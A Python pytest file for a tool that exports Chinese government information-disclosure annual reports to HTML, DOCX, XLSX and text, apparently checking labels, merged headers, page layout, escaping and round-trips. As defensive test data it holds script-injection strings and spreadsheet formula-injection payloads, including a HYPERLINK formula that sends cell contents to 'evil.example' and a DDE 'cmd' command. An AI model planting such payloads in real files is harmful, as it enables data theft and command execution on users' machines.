"""Writers: labels from the format table, merged headers, page setup, escaping."""

from __future__ import annotations

import io
import random
import re
import shutil
import subprocess
from decimal import Decimal

import pytest
from docx import Document
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gongkai.annual import format as fmt
from gongkai.annual.model import SectionText
from gongkai.annual.sample import random_report, seed_like_report
from gongkai.annual.writers import BINARY_FORMATS, FORMATS, write
from gongkai.annual.writers.docx import write_docx
from gongkai.annual.writers.html import html_fragment, write_html
from gongkai.annual.writers.text import write_text
from gongkai.annual.writers.xlsx import XLSXReadError, read_xlsx, write_xlsx


def every_label() -> list[str]:
    labels = [s.title for s in fmt.SECTIONS]
    labels += [r.label for r in fmt.T2_ROWS] + [r.article_item for r in fmt.T2_ROWS]
    labels += [label for _, label in fmt.T2_DOC_COLUMNS]
    labels += [r.column_label for r in fmt.T2_ROWS if r.column_label]
    labels += [r.label for r in fmt.T3_ROWS] + [label for _, label in fmt.T3_GROUPS]
    labels += [label for _, label in fmt.T3_COLUMNS] + [fmt.T3_NOTE, fmt.T3_RESULTS_HEADING]
    labels += [fmt.T3_ORG_GROUP_LABEL, fmt.T3_APPLICANT_GROUP_LABEL]
    labels += [label for _, label in fmt.T4_BLOCKS] + [label for _, label in fmt.T4_COLUMNS]
    return labels + [fmt.T4_LITIGATION_LABEL]


def test_write_dispatches_every_format():
    report = seed_like_report()
    for to in FORMATS:
        data = write(report, to)
        assert isinstance(data, bytes) and data
        if to not in BINARY_FORMATS:
            data.decode("utf-8")
    with pytest.raises(ValueError, match="未知的输出格式"):
        write(report, "pdf")


# --- HTML -----------------------------------------------------------------------------


def test_html_prints_every_official_label():
    page = write_html(seed_like_report())
    for label in every_label():
        assert label.replace("“", "&ldquo;") in page or label in page, label


def test_html_is_self_contained_and_printable():
    page = write_html(seed_like_report())
    assert page.startswith("<!DOCTYPE html>")
    assert "<style>" in page and "@page" in page and "size: A4" in page
    assert not re.search(r"<(link|script|img)\b", page)
    assert 'src="' not in page and "http" not in page.split("<style>")[0]


def test_html_merged_headers_like_the_template():
    html = html_fragment(seed_like_report())
    # 表三: the note spans 3 rows x 3 label columns; 申请人情况 the 7 value columns.
    assert f'<th rowspan="3" colspan="3">{fmt.T3_NOTE}</th>' in html
    assert '<th colspan="7">申请人情况</th>' in html
    assert '<th colspan="5">法人或其他组织</th>' in html
    assert '<td class="gk-label" rowspan="8">（三）不予公开</td>' in html
    results = len(fmt.T3_RESULT_ROWS) + 1  # + （七）总计
    assert f'<td class="gk-label" rowspan="{results}">三、本年度办理结果</td>' in html
    # 表四: 行政复议 5 columns, 行政诉讼 10.
    assert '<th colspan="5">行政复议</th><th colspan="10">行政诉讼</th>' in html
    assert '<th rowspan="2" scope="col">结果维持</th>' in html
    # 表二: single-value rows span the three value columns.
    assert '<th colspan="3">本年收费金额（单位：万元）</th>' in html
    assert 'data-key="t2.fees" colspan="3">1234.567800</td>' in html


def test_html_one_row_other_layout():
    html = html_fragment(random_report(random.Random(1), one_row_other=True))
    assert '<td class="gk-label" colspan="2">（六）其他处理</td>' in html
    assert 'data-key="t3.other.natural"' in html
    assert "3.其他" not in html


def test_html_escapes_all_text():
    report = seed_like_report()
    report.organization = '<script>alert("x")</script>'
    report.title = "A & B <年度报告>"
    report.sections[1] = SectionText(1, "一、总体情况", '<img src=x onerror="y">\n第二段')
    del report.cells["t3.new.natural"]
    report.raw["t3.new.natural"] = "<b>"
    page = write_html(report)
    assert "<script>" not in page and "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;" in page and "A &amp; B &lt;年度报告&gt;" in page
    assert "<p>第二段</p>" in page


def test_html_fragment_is_one_article():
    fragment = html_fragment(seed_like_report())
    assert fragment.startswith('<article class="gk-annual"')
    assert fragment.endswith("</article>")
    assert "<html" not in fragment and "<style" not in fragment


def test_html_missing_prose_section_is_not_invented():
    report = seed_like_report()
    del report.sections[6]
    assert "六、其他需要报告的事项" not in write_html(report)
    del report.sections[3]
    assert "三、收到和处理政府信息公开申请情况" in write_html(report)  # the table's section


# --- DOCX -----------------------------------------------------------------------------


def docx_of(report=None):
    return Document(io.BytesIO(write_docx(report or seed_like_report())))


def test_docx_page_follows_gb_t_9704():
    section = docx_of().sections[0]
    mm = 36000  # EMU per millimetre
    assert round(section.page_width / mm) == 210 and round(section.page_height / mm) == 297
    assert round(section.top_margin / mm) == 37
    assert round(section.bottom_margin / mm) == 35
    assert round(section.left_margin / mm) == 28
    assert round(section.right_margin / mm) == 26


def east_asia(run) -> str | None:
    fonts = run._element.rPr.find(qn("w:rFonts"))
    return fonts.get(qn("w:eastAsia"))


def test_docx_fonts_title_and_body():
    document = docx_of()
    title = document.paragraphs[0]
    assert title.text == "青山县人民政府2024年政府信息公开工作年度报告"
    assert east_asia(title.runs[0]) == "方正小标宋简体"
    assert title.runs[0].font.size.pt == 22
    body = next(p for p in document.paragraphs if p.text.startswith("2024年"))
    assert east_asia(body.runs[0]) == "仿宋_GB2312"
    assert body.runs[0].font.size.pt == 16
    heading = next(p for p in document.paragraphs if p.text == "一、总体情况")
    assert east_asia(heading.runs[0]) == "黑体"
    cell_run = document.tables[1].rows[5].cells[4].paragraphs[0].runs[0]
    assert cell_run.font.size.pt < 16


def test_docx_declares_font_fallbacks():
    data = write_docx(seed_like_report())
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        table = zf.read("word/fontTable.xml").decode("utf-8")
    assert '<w:font w:name="方正小标宋简体"><w:altName w:val="宋体"/>' in table
    assert '<w:font w:name="仿宋_GB2312"><w:altName w:val="仿宋"/>' in table


def test_docx_tables_have_the_template_shape_and_merges():
    document = docx_of()
    t2, t3, t4 = document.tables
    assert len(t2.columns) == 4 and len(t3.columns) == 10 and len(t4.columns) == 15
    assert len(t3.rows) == 3 + len(fmt.T3_ROW_KEYS)
    assert len(t4.rows) == 4
    # Merged cells appear once per spanned grid cell, as in the official template.
    assert [c.text for c in t3.rows[0].cells[:4]] == [fmt.T3_NOTE] * 3 + ["申请人情况"]
    assert [c.text for c in t3.rows[2].cells[:3]] == [fmt.T3_NOTE] * 3
    assert t4.rows[0].cells[14].text == "行政诉讼"
    assert t4.rows[2].cells[0].text == "结果维持"  # vertical merge of rows 2-3
    xml = t3._tbl.xml
    assert 'w:gridSpan w:val="3"' in xml and '<w:vMerge w:val="restart"/>' in xml
    assert t2.rows[0].cells[3].text == "第二十条第（一）项"
    values = [c.text for c in t3.rows[3].cells[3:]]
    report = seed_like_report()
    assert values == [str(report.cells[f"t3.new.{c}"]) for c, _ in fmt.T3_COLUMNS]


def test_docx_prints_every_official_label():
    document = docx_of()
    texts = {p.text for p in document.paragraphs}
    for table in document.tables:
        for row in table.rows:
            texts.update(c.text for c in row.cells)
    for label in every_label():
        assert label in texts, label


# --- XLSX -----------------------------------------------------------------------------


def test_xlsx_sheets_numbers_and_merges():
    wb = load_workbook(io.BytesIO(write_xlsx(seed_like_report())))
    assert wb.sheetnames == ["报告信息", "表二", "表三", "表四", "正文"]
    t3 = wb["表三"]
    assert "A1:C3" in {str(r) for r in t3.merged_cells.ranges}
    assert t3["A1"].value == fmt.T3_NOTE
    assert t3["A4"].value == fmt.T3_ROW_BY_KEY["new"].label
    assert isinstance(t3["D4"].value, int)
    t2 = wb["表二"]
    fees = next(row for row in t2.iter_rows() if row[0].value == "行政事业性收费")[1]
    assert isinstance(fees.value, float) and fees.value == 1234.5678
    assert fees.number_format == "0.000000"
    t4 = wb["表四"]
    assert {"A1:E1", "F1:O1", "A2:A3", "F2:J2", "K2:O2"} <= {str(r) for r in t4.merged_cells.ranges}


@pytest.mark.parametrize("seed", range(8))
def test_xlsx_reads_its_own_layout_back(seed):
    report = random_report(random.Random(seed))
    back = read_xlsx(write_xlsx(report))
    assert back.cells == report.cells
    assert {k: str(v) for k, v in back.cells.items()} == {
        k: str(v) for k, v in report.cells.items()
    }
    assert back.one_row_other == report.one_row_other
    assert back.sections == report.sections
    assert (back.organization, back.year, back.level, back.title) == (
        report.organization,
        report.year,
        report.level,
        report.title,
    )
    assert back.source_format == "xlsx"
    assert back.provenance["t3.new.total"] == "表三 J4"


def test_xlsx_keeps_blank_and_text_cells_apart():
    report = seed_like_report()
    del report.cells["t3.granted.research"]
    del report.cells["t2.fees"]
    report.raw["t2.fees"] = "—"
    back = read_xlsx(write_xlsx(report))
    assert "t3.granted.research" not in back.cells and "t3.granted.research" not in back.raw
    assert back.raw == {"t2.fees": "—"}


def test_xlsx_integer_fees_and_foreign_workbooks():
    report = seed_like_report()
    report.cells["t2.fees"] = Decimal("7545")
    assert str(read_xlsx(write_xlsx(report)).cells["t2.fees"]) == "7545"
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    with pytest.raises(XLSXReadError, match="缺少工作表「报告信息」"):
        read_xlsx(out.getvalue())
    with pytest.raises(XLSXReadError, match="无法打开"):
        read_xlsx(b"PK\x03\x04 not a zip")


# --- text -----------------------------------------------------------------------------


def test_text_layout_is_tab_separated_like_the_seed():
    text = write_text(seed_like_report())
    lines = text.splitlines()
    assert lines[0] == "青山县人民政府2024年政府信息公开工作年度报告"
    assert "单位名称：青山县人民政府" in lines
    assert f"{fmt.T3_NOTE}\t申请人情况" in lines
    assert "\t\t商业企业\t科研机构\t社会公益组织\t法律服务机构\t其他" in lines
    secret = next(ln for ln in lines if "1.属于国家秘密" in ln)
    assert secret.startswith("\t（三）不予公开\t1.属于国家秘密\t")
    assert len(secret.split("\t")) == 3 + 7
    law = next(ln for ln in lines if "2.其他法律行政法规禁止公开" in ln)
    assert law.startswith("\t\t2.")
    total = next(ln for ln in lines if ln.startswith("（七）总计"))
    assert total.split("\t")[1] == ""
    assert "第二十条第（八）项" in lines
    assert any(ln.startswith("行政事业性收费\t1234.567800") for ln in lines)
    for label in every_label():
        assert label in text, label


def test_text_has_no_section_six_when_the_report_has_none():
    report = seed_like_report()
    del report.sections[6]
    assert "六、其他需要报告的事项" not in write_text(report)


@pytest.mark.parametrize("seed", range(5))
def test_text_reader_reads_write_text_back(seed):
    from gongkai.annual.readers.text import read_text

    report = random_report(random.Random(seed))
    back = read_text(write_text(report))
    assert back.cells == report.cells
    assert back.organization == report.organization and back.year == report.year


CONTROL = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\x7f"


@settings(max_examples=20, deadline=None)
@given(
    text=st.text(min_size=1, max_size=30).filter(
        lambda t: "".join(ch for ch in t if ch not in CONTROL).strip()
    )
)
def test_any_text_is_printed_as_text_in_every_writer(text):
    import lxml.html

    report = seed_like_report()
    report.organization = text
    report.sections[1] = SectionText(1, "一、总体情况", text)
    del report.cells["t3.new.natural"]
    report.raw["t3.new.natural"] = text
    page = lxml.html.fromstring(html_fragment(report))
    org = page.find_class("gk-org")[0]
    assert len(org) == 0  # no element was injected
    printed = "单位名称：" + "".join(ch for ch in text if ch not in CONTROL)
    assert org.text_content().replace("\r", "\n") == printed.replace("\r\n", "\n").replace(
        "\r", "\n"
    )
    # XML cannot hold control characters: the writers drop them, never fail.
    for to in ("json", "text", "xlsx"):
        assert write(report, to)


def test_control_characters_never_break_docx_or_xlsx():
    report = seed_like_report()
    report.organization = "青山\x00县\x08人民\x1f政府\x7f"
    report.sections[1] = SectionText(1, "一、总体情况", "第一段\x0b\n第二段\x0c")
    del report.cells["t3.new.natural"]
    report.raw["t3.new.natural"] = "\x01—"
    document = Document(io.BytesIO(write_docx(report)))
    assert "单位名称：青山县人民政府" in [p.text for p in document.paragraphs]
    back = read_xlsx(write_xlsx(report))
    assert back.organization == "青山县人民政府"
    assert back.raw["t3.new.natural"] == "—"


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_docx_opens_in_libreoffice(tmp_path):
    source = tmp_path / "report.docx"
    source.write_bytes(write_docx(seed_like_report()))
    profile = tmp_path / "profile"  # a private profile: never touch the user's
    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        timeout=180,
        check=False,
    )
    pdf = tmp_path / "report.pdf"
    assert pdf.exists(), result.stderr
    import pdfplumber

    with pdfplumber.open(pdf) as doc:
        text = "".join(page.extract_text() or "" for page in doc.pages)
        width, height = doc.pages[0].width, doc.pages[0].height
    assert round(width / 72 * 25.4) == 210 and round(height / 72 * 25.4) == 297
    flat = "".join(text.split())
    for label in ("一、本年新收政府信息公开申请数量", "第二十条第（一）项", "行政复议"):
        assert label in flat, label


@pytest.mark.parametrize("one_row_other", [False, True])
def test_t3_label_cells_follow_the_template(one_row_other):
    from gongkai.annual.writers.common import t3_label_cells, t3_layout

    report = seed_like_report()
    report.one_row_other = one_row_other
    layout = t3_layout(report)
    cells = t3_label_cells(layout)
    results = [i for i, item in enumerate(layout) if item[0] == fmt.T3_RESULTS_HEADING]
    heading = cells[0]
    assert (heading.text, heading.col, heading.row, heading.last_row) == (
        fmt.T3_RESULTS_HEADING,
        0,
        results[0],
        results[-1],
    )
    # 不予公开 runs down column 2 beside its 8 numbered rows (条例第十四至十六条)
    withheld = dict(fmt.T3_GROUPS)["withheld"]
    (group,) = [c for c in cells if c.text == withheld]
    assert (group.col, group.rowspan, group.colspan, group.left) == (1, 8, 1, False)
    # every body row has exactly one label cell of its own, and the label columns
    # 0..2 are covered exactly once in every row
    for i in range(len(layout)):
        covered = [
            col for c in cells if c.row <= i <= c.last_row for col in range(c.col, c.last_col + 1)
        ]
        assert sorted(covered) == [0, 1, 2], (i, covered)
    other = dict(fmt.T3_GROUPS)["other"]
    other_cells = [c for c in cells if c.text == other]
    assert [c.colspan for c in other_cells] == ([2] if one_row_other else [1])


def test_table2_header_comes_from_the_format_table():
    report = seed_like_report()
    text = write_text(report)
    page = write_html(report)
    assert text.count(fmt.T2_HEADER) == page.count(f"<th>{fmt.T2_HEADER}</th>") == 4
    assert f"{fmt.ORGANIZATION_LABEL}：" in text


# --- No formulas in exports (issue #9 item 3) ----------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝１＋１",
)


def _formula_report():
    report = seed_like_report()
    report.title = FORMULAS[0]
    report.organization = FORMULAS[1]
    report.sections[1] = SectionText(1, FORMULAS[3], FORMULAS[0])
    report.sections[5] = SectionText(5, "五、存在的主要问题及改进情况", FORMULAS[4])
    raw_keys = ("t3.new.natural", "t2.fees", "t4.reconsideration.upheld")
    for key, text in zip(raw_keys, FORMULAS[1:4], strict=True):
        del report.cells[key]
        report.raw[key] = text
    report.cells["t2.normative.issued"] = -3  # a negative number stays a number
    return report


def test_xlsx_writes_formula_like_text_as_text():
    report = _formula_report()
    data = write_xlsx(report)
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(FORMULAS[:5]) <= texts
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "＝")):
            assert c.quotePrefix, c.coordinate  # stays text when edited in Excel/WPS
    issued = next(r for r in wb["表二"].iter_rows() if r[0].value == "行政规范性文件")[1]
    assert issued.value == -3 and issued.data_type == "n"
    # gongkai's own reader reads the same cells and text back
    back = read_xlsx(data)
    assert back.cells == report.cells
    assert back.raw == report.raw
    assert (back.title, back.organization) == (report.title, report.organization)
    assert back.sections == report.sections
